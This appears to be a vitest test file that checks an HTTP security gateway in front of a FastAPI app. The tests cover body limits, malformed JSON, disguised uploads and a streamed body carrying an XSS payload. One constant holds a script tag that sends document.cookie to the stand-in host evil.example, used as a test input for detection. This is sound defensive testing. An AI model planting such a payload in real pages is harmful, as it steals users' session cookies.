// Bodies that are judged while they come, as an operator has it: the real command in front of the real FastAPI on uvicorn, by both readers of HTTP. Without the
// Python of the oracle it is skipped, each row counted.

import { describe, expect, test } from 'vitest'
import { writeProject } from '../../kit/project.ts'
import { connectRaw } from '../front/raw-client.ts'
import { python, send, startApplication, startGateway } from '../running.ts'

const program = `
from typing import Annotated, List
from fastapi import FastAPI, File, Request
from pydantic import BaseModel

app = FastAPI()
whole = []


class Order(BaseModel):
    lines: List[int]


@app.post("/orders")
def create(order: Order):
    whole.append("order")
    return len(order.lines)


@app.post("/photos")
def upload(photo: Annotated[bytes, File(max_length=100)]):
    whole.append("photo")
    return len(photo)


@app.post("/raw")
async def raw(request: Request):
    size = 0
    async for part in request.stream():
        size += len(part)
    whole.append(size)
    return size


@app.get("/whole")
def read():
    return whole
`

const policy = (mode: string) => `access: {rules: {all: {where: {path: '/**'}}}}
gateway:
  docs: open
  bodies: {limit: 65536}
  contract: {mode: ${mode}, json: {members: 1000}, files: {content: refuse}}
  inspection: {mode: ${mode}}
`

const head = (path: string, type: string, length: number) =>
  `POST ${path} HTTP/1.1\r\nHost: shop.example\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n`
const prose = 'The parcel stood at the door, and nobody was at home. '.repeat(2000)
const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
const form = (type: string, data: string) =>
  `--X\r\nContent-Disposition: form-data; name="photo"; filename="a.png"\r\nContent-Type: ${type}\r\n\r\n${data}\r\n--X--\r\n`

async function stand(front: string, mode: string) {
  const folder = await writeProject({ 'main.py': program, 'fastward.yaml': policy(mode) })
  const application = await startApplication(folder)
  return startGateway(folder, application.port, { words: ['--front', front] })
}

describe.each(['fast', 'node'])('by the %s front', (front) => {
  test.skipIf(python === null)('what breaks a bound is refused while the rest is not sent (skipped without its Python)', async () => {
    const gateway = await stand(front, 'enforce')
    for (const [text, status] of [
      [`{"lines":${'['.repeat(10_000)}`, 400],
      ['{"lines":[1],"lines":', 400],
      [`{"lines":[${'1,'.repeat(1001)}`, 413],
    ] as const) {
      const client = await connectRaw(gateway.port)
      client.send(`${head('/orders', 'application/json', 60_000)}${text}`)
      expect((await client.answers(1)).map((answer) => answer.status)).toEqual([status])
    }
    for (const [type, data, status] of [
      ['image/png', `\x89PNG\r\n\x1a\n${'x'.repeat(50)}`, 200],
      ['image/png', `\x89PNG\r\n\x1a\n${'x'.repeat(100)}`, 422],
      ['image/png', 'PK\x03\x04', 422],
      ['text/plain', 'plain', 200],
    ] as const) {
      const body = form(type, data)
      const client = await connectRaw(gateway.port)
      client.send(`${head('/photos', 'multipart/form-data; boundary=X', body.length)}${body}`)
      expect((await client.answers(1)).map((answer) => answer.status)).toEqual([status])
    }
    expect((await send(gateway.port, 'GET', '/whole'))?.body).toBe('["photo","photo"]')
  })

  test.skipIf(python === null)(
    'an attack far behind what is held never becomes a request of the application (skipped without its Python)',
    async () => {
      const gateway = await stand(front, 'enforce')
      const [before, after] = [prose, prose]
      const client = await connectRaw(gateway.port)
      client.send(head('/raw', 'application/octet-stream', before.length + script.length + after.length))
      client.send(before + script.slice(0, 17))
      await new Promise((settle) => setImmediate(settle))
      client.send(script.slice(17) + after.slice(0, 50_000))
      expect((await client.answers(1)).map(({ status }) => status)).toEqual([403])
      const clean = await send(
        gateway.port,
        'POST',
        '/raw',
        { 'Content-Type': 'application/octet-stream', 'Content-Length': String(prose.length) },
        prose,
      )
      expect(clean).toMatchObject({ status: 200, body: String(prose.length) })
      expect((await send(gateway.port, 'GET', '/whole'))?.body).toBe(`[${prose.length}]`)
      const [line] = await gateway.untilLines(1)
      expect(line).toMatchObject({ code: 'payload-refused', status: 403 })
      expect(line?.reason).toContain('cross-site-scripting in body')
    },
  )

  test.skipIf(python === null)('observed, all of it goes on (skipped without its Python)', async () => {
    const gateway = await stand(front, 'observe')
    const body = prose + script + prose
    const answer = await send(
      gateway.port,
      'POST',
      '/raw',
      { 'Content-Type': 'application/octet-stream', 'Content-Length': String(body.length) },
      body,
    )
    expect(answer).toMatchObject({ status: 200, body: String(body.length) })
  })
})
